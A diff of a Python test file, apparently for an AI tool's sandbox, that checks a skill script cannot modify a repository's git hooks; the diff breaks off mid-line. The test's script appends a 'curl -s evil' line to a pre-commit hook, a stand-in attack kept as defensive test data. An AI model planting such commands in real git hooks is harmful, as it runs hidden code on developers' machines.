@@ -81,13 +81,9 @@ async def test_a_hooks_path_outside_dot_git_hooks_is_read_from_the_repos_config(
     assert "core.hooksPath" in asked[0].detail
 
 
-@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux-only")
+@pytest.mark.needs("userns")  # read-only binds
 async def test_a_script_cannot_write_the_hooks_path(repo: Path, isolated_home: Home) -> None:
     from aiq_tui.skills.executor import SkillExecutor
-    from aiq_tui.tools import launcher
-
-    if not launcher._namespaces_work():
-        pytest.skip("read-only binds need unprivileged namespaces")
     (repo / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
     executor = SkillExecutor(ToolSettings(), cwd=repo)
     result = await executor.run_script("echo 'curl -s evil' >> .githooks/pre-commit; touch .githooks/post-merge; "
